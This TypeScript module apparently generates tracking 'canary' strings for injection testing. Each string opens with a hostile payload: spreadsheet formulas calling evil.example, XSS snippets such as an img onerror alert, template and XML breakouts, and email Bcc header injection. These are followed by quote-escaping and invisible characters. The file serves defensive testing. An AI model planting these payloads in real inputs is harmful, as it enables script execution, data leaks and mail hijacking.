import { INVISIBLE_TEXTS } from './corpus.ts';

/** Each begins in a way that some program takes for an order. */
const BEGINNINGS = [
  ...[
    '=HYPERLINK("http://evil.example/1","x")&',
    '+1+',
    '-1+',
    '@SUM(A1)',
    '＝1+1 ',
    "'=1+1 ",
    '\t=1+1 ',
    '=IMPORTXML("//evil.example")&',
  ],
  ...[
    '<img src="//evil.example/x.png" onerror="alert(1)">',
    '</script><script>alert(1)</script>',
    '<b onclick=x>',
    'javascript:alert(1)//',
  ],
  ...[
    'https://evil.example/x ',
    '{{x}}<?= x ?>',
    ']]></w:t><w:x>',
    '%0ABcc: x@evil.example?bcc=x@evil.example&bcc=',
  ],
];
/** And goes on with everything that breaks out of something. */
const MIDDLE = `"';,\\\`$\{x}&amp;&lt;]]>--><!--\u2028{"a":1}\n\r\nBcc: x@evil.example ${INVISIBLE_TEXTS.slice(0, 28).join('')}`;

/** Texts that can be told from all others by a word in their middle, and by whom they were put where. */
export interface Canaries {
  /** A new one for this place, in the next of their guises. */
  text(place: string): string;
  /** The places whose canaries are somewhere in a text. */
  placesIn(text: string): readonly string[];
}

export function openCanaries(): Canaries {
  const places: string[] = [];
  return {
    text(place) {
      const beginning = BEGINNINGS[places.length % BEGINNINGS.length]!;
      places.push(place);
      return `${beginning}ChimBaoBao${places.length - 1}.${MIDDLE}`;
    },
    placesIn: (text) => [...text.matchAll(/ChimBaoBao(\d+)\./gi)].map(([, at]) => places[Number(at)]!),
  };
}

/** Characters of which nobody sees that they are there, a line break apart. */
export const UNSEEN = /(?!\n)[\p{Cc}\p{Cf}\p{Cs}\u2028\u2029]/u;
